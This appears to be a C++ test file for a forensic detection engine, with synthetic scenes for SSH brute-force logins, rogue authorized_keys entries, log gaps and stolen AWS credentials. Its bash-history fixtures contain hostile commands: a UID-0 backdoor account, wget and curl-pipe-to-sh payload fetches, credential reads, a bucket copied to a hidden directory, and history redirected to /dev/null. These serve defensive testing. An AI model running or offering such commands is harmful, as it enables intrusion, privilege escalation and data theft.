// H1, H2, H12, H13, H15: logins, keys, histories, cut logs, credentials.
#include "scene_builder.h"

namespace icecore::detect::test {
namespace {

constexpr const char* kThief = "203.0.113.66";
constexpr const char* kJournal = "/var/log/journal/0/system.journal";

struct Logins : testing::Test {
  SceneBuilder scene;

  void failed(std::int64_t at, const char* ip, const std::string& path, const char* user = "admin") {
    scene.event("syslog:ssh:failed_connection", t(at),
                {{"reporter", "sshd"},
                 {"action", "failed"},
                 {"user", user},
                 {"ip", ip},
                 {"body", fmt::format("Failed password for {} from {} port {} ssh2", user, ip, 40000 + at % 999)}},
                path);
  }
  void accepted(std::int64_t at, const char* ip, const std::string& path, const char* method = "password", const std::string& fingerprint = "") {
    scene.event("syslog:ssh:login", t(at),
                {{"reporter", "sshd"},
                 {"action", "accepted"},
                 {"user", "admin"},
                 {"ip", ip},
                 {"method", method},
                 {"fingerprint", fingerprint},
                 {"body", fmt::format("Accepted {} for admin from {} port 1 ssh2", method, ip)}},
                path);
  }
  void utmp(std::int64_t at, const char* ip, const char* file) {
    scene.event("linux:utmp:event", t(at),
                {{"type", std::string(file) == "btmp" ? "LOGIN_PROCESS" : "USER_PROCESS"}, {"user", "admin"}, {"ip", ip}, {"file", file}},
                std::string("/var/log/") + file);
  }
};

TEST_F(Logins, ManyFailuresAndThenALogin) {
  for (int i = 0; i < 120; ++i) {
    failed(-400 + i * 3, kThief, "/var/log/auth.log");
    failed(-400 + i * 3, kThief, kJournal);
    utmp(-400 + i * 3, kThief, "btmp");
  }
  accepted(-10, kThief, kJournal);
  utmp(-9, kThief, "wtmp");
  const auto found = of_rule(scene.run(), "ssh-bruteforce-success");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].severity, Severity::kCritical);
  EXPECT_EQ(found[0].time, t(-10));
  EXPECT_EQ(found[0].first, t(-400));
  for (const char* path : {"/var/log/auth.log", kJournal, "/var/log/btmp", "/var/log/wtmp"}) EXPECT_TRUE(names_path(found[0], path)) << path;
  EXPECT_NE(found[0].sentence.find("120 failed"), std::string::npos) << "one attempt seen by three witnesses counts once: " << found[0].sentence;
}

TEST_F(Logins, OneWitnessIsEnoughWhereTheOthersWereCut) {
  for (int i = 0; i < 60; ++i) utmp(-7200 + i * 100, kThief, "btmp");
  utmp(-900, kThief, "wtmp");
  EXPECT_EQ(of_rule(scene.run(), "ssh-bruteforce-success").size(), 1U);
}

TEST_F(Logins, SlowGuessingOverADay) {
  for (int i = 0; i < 60; ++i) failed(-80000 + i * 1300, kThief, "/var/log/auth.log");
  accepted(0, kThief, "/var/log/auth.log");
  EXPECT_EQ(of_rule(scene.run(), "ssh-bruteforce-success").size(), 1U);
}

TEST_F(Logins, MistypingAndTheInternetsNoiseAreNot) {
  for (int i = 0; i < 5; ++i) failed(-100 + i * 10, "192.0.2.77", "/var/log/auth.log");
  accepted(-40, "192.0.2.77", "/var/log/auth.log");
  for (int i = 0; i < 500; ++i) failed(-5000 + i, "198.51.100.201", "/var/log/auth.log", "test");
  accepted(0, "192.0.2.10", "/var/log/auth.log", "publickey");
  EXPECT_EQ(of_rule(scene.run(), "ssh-bruteforce-success", Severity::kInfo).size(), 0U);
}

constexpr const char* kLaunch = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG2zWdN5oMcnWmaHYL2E2mEb2RYwDhlc2ZyvSMgCrUzq web-prod";
constexpr const char* kThiefs = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ x@kali";
const std::string kGuard =
    "no-port-forwarding,command=\"echo 'Please login as the user \\\"admin\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" ";

TEST_F(Logins, AKeyAppendedForTwoUsers) {
  scene.root->folder("/root", Times::at(kImaged));
  Times appended{kBooted, t(0), t(0), t(0)};
  scene.root->file("/home/admin/.ssh/authorized_keys", std::string(kLaunch) + "\n" + kThiefs + "\n", appended, 0600, 1000);
  scene.root->file("/root/.ssh/authorized_keys", kGuard + kLaunch + "\n" + kThiefs + "\n", appended, 0600);
  // The home was made at the first boot, twelve days before.
  const auto found = of_rule(scene.run(), "ssh-key-added", Severity::kMedium);
  ASSERT_EQ(found.size(), 2U);
  for (const Finding& finding : found) {
    EXPECT_EQ(finding.locations.size(), 1U) << "the launch key is explained by cloud-init's line for root";
    EXPECT_EQ(finding.locations[0].line, 2U);
    EXPECT_EQ(finding.time, t(0));
  }
}

TEST_F(Logins, TheLaunchKeyIsKnownByMaterialOrFingerprint) {
  Times appended{kBooted, t(0), t(0), t(0)};
  scene.root->file("/home/admin/.ssh/authorized_keys", std::string(kLaunch) + "\n", appended, 0600, 1000);
  scene.instance.launch_keys = {kLaunch};
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Logins, AKeySetUpWithItsAccountIsProvisioning) {
  scene.account("deploy", 1001, "/home/deploy", "/bin/bash", {kBooted.seconds + 2 * kDay, 0});
  scene.put("/home/deploy/.ssh/authorized_keys", std::string(kLaunch) + "\n", {kBooted.seconds + 2 * kDay + 600, 0}, 0600, 1001);
  EXPECT_EQ(alarms(scene.run()), "");
}

TEST_F(Logins, AnAccountMadeAfterTheBreakInIsNoProvisioning) {
  for (int i = 0; i < 60; ++i) failed(-1000 + i * 3, kThief, "/var/log/auth.log");
  accepted(-500, kThief, "/var/log/auth.log");
  scene.account("backup2", 1001, "/home/backup2", "/bin/bash", t(-100));
  scene.put("/home/backup2/.ssh/authorized_keys", std::string(kThiefs) + "\n", t(-90), 0600, 1001);
  EXPECT_EQ(of_rule(scene.run(), "ssh-key-added", Severity::kHigh).size(), 1U);
}

TEST_F(Logins, AHistoryThatShowsAnAttackWithItsTimes) {
  scene.put("/home/admin/.bash_history",
            fmt::format("#{}\ndf -h\n#{}\nuseradd -o -u 0 -g 0 sysd\n#{}\nwget -q http://198.51.100.23/m.tgz -O /tmp/m.tgz\n", kNow - kDay, kNow,
                        kNow + 60),
            t(100), 0600, 1000);
  const auto found = of_rule(scene.run(), "shell-history-attack");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations.size(), 2U);
  EXPECT_EQ(found[0].locations[0].line, 4U);
  EXPECT_EQ(found[0].first->seconds, kNow);
  EXPECT_EQ(found[0].last->seconds, kNow + 60);
}

TEST_F(Logins, TerminalEscapesInAHistoryArePrintedSafely) {
  scene.put("/home/admin/.bash_history", "curl http://203.0.113.9/\033[2J\xff | sh\n", t(0), 0600, 1000);
  const auto found = of_rule(scene.run(), "shell-history-attack");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].sentence.find('\033'), std::string::npos);
  EXPECT_NE(found[0].locations[0].excerpt.find('\033'), std::string::npos) << "the excerpt keeps the raw bytes";
}

TEST_F(Logins, AHistoryThatLeadsNowhere) {
  const auto inode = scene.root->link("/root/.bash_history", "/dev/null", Times::at(t(0)));
  const auto found = of_rule(scene.run(), "history-disabled");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].locations[0].inode, inode);
  EXPECT_EQ(found[0].time, t(0));
}

struct LogGap : Logins {
  // A line every minute for four hours, in the journal and in auth.log but for what `cut` says.
  template <typename Cut>
  void logs(const Cut& cut) {
    for (int minute = 0; minute < 240; ++minute) {
      const std::string body = minute % 7 == 0
                                   ? "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
                                   : fmt::format("Failed password for admin from {} port {} ssh2", minute % 2 == 0 ? kThief : "192.0.2.10", minute);
      const std::string reporter = minute % 7 == 0 ? "CRON" : "sshd";
      scene.event("systemd:journal", t(minute * 60), {{"reporter", reporter}, {"body", body}}, kJournal);
      if (!cut(minute)) scene.event("syslog:line", t(minute * 60), {{"reporter", reporter}, {"body", body}}, "/var/log/auth.log");
    }
  }
};

TEST_F(LogGap, LinesCutOutAreShownByTheJournal) {
  logs([](int minute) { return minute >= 100 && minute < 112; });
  const auto found = of_rule(scene.run(), "log-gap");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].first, t(99 * 60));
  EXPECT_EQ(found[0].last, t(112 * 60));
  EXPECT_TRUE(names_path(found[0], "/var/log/auth.log"));
  EXPECT_TRUE(names_path(found[0], kJournal));
}

TEST_F(LogGap, OneAddressFilteredOutLeavesTheOtherLines) {
  logs([](int minute) { return minute >= 100 && minute < 140 && minute % 7 != 0 && minute % 2 == 0; });
  const auto found = of_rule(scene.run(), "log-gap");
  ASSERT_EQ(found.size(), 1U);
  EXPECT_NE(found[0].sentence.find("other lines were left"), std::string::npos) << found[0].sentence;
}

TEST_F(LogGap, RotationRetentionAndCompleteLogsAreNoGap) {
  logs([](int minute) { return minute < 90 || minute > 200; });
  EXPECT_EQ(of_rule(scene.run(), "log-gap", Severity::kInfo).size(), 0U);
}

TEST_F(LogGap, AProgramThatThisLogNeverRecordsIsNoGap) {
  logs([](int minute) { return minute % 7 == 0; });
  EXPECT_EQ(of_rule(scene.run(), "log-gap", Severity::kInfo).size(), 0U);
}

struct Credentials : Logins {
  Credentials() {
    scene.account("deploy", 1001, "/home/deploy", "/bin/bash");
    Times times = Times::at(kBooted);
    times.accessed = t(0);
    scene.root->file("/home/deploy/.aws/credentials", "[default]\naws_access_key_id = AKIAICEDEPLOY0000001\naws_secret_access_key = secret\n", times,
                     0600, 1001);
  }
  void typed(const std::string& lines) { scene.put("/home/deploy/.bash_history", lines, t(900), 0600, 1001); }
};

TEST_F(Credentials, ReadAndUsedFromElsewhere) {
  typed(
      fmt::format("#{}\ncat ~/.aws/credentials\n#{}\naws sts get-caller-identity\n#{}\naws s3 sync s3://billing-exports /var/tmp/.cache/b --quiet\n",
                  kNow, kNow + 30, kNow + 60));
  scene.cloud(t(-kDay), {"GetObject", "AKIAICEDEPLOY0000001", "192.0.2.10"});
  scene.cloud(t(30), {"GetCallerIdentity", "AKIAICEDEPLOY0000001", kThief});
  scene.cloud(t(60), {"ListObjects", "AKIAICEDEPLOY0000001", kThief});
  const auto findings = scene.run();
  const auto read = of_rule(findings, "credential-file-read", Severity::kHigh);
  ASSERT_EQ(read.size(), 1U);
  EXPECT_EQ(read[0].time, t(0));
  EXPECT_EQ(std::ranges::count(read[0].locations, Provenance::Kind::kCloudTrail, &Provenance::kind), 2);
  for (const Provenance& where : read[0].locations) EXPECT_EQ(where.excerpt.find("secret"), std::string::npos);
  const auto copied = of_rule(findings, "bulk-exfiltration", Severity::kHigh);
  ASSERT_EQ(copied.size(), 1U);
  EXPECT_EQ(copied[0].time->seconds, kNow + 60);
  EXPECT_EQ(copied[0].locations[0].line, 6U);
}

TEST_F(Credentials, LookingAtOnesOwnSettingsIsLow) {
  typed("cat ~/.aws/credentials\nls\n");
  scene.cloud(t(-kDay), {"GetObject", "AKIAICEDEPLOY0000001", "192.0.2.10"});
  scene.cloud(t(kDay), {"GetObject", "AKIAICEDEPLOY0000001", "192.0.2.10"});
  EXPECT_EQ(alarms(scene.run(), Severity::kMedium), "");
}

TEST_F(Credentials, ABackupOfABucketIsLow) {
  typed("aws s3 sync /srv/backup s3://backups\n");
  EXPECT_EQ(alarms(scene.run(), Severity::kMedium), "");
}

}  // namespace
}  // namespace icecore::detect::test
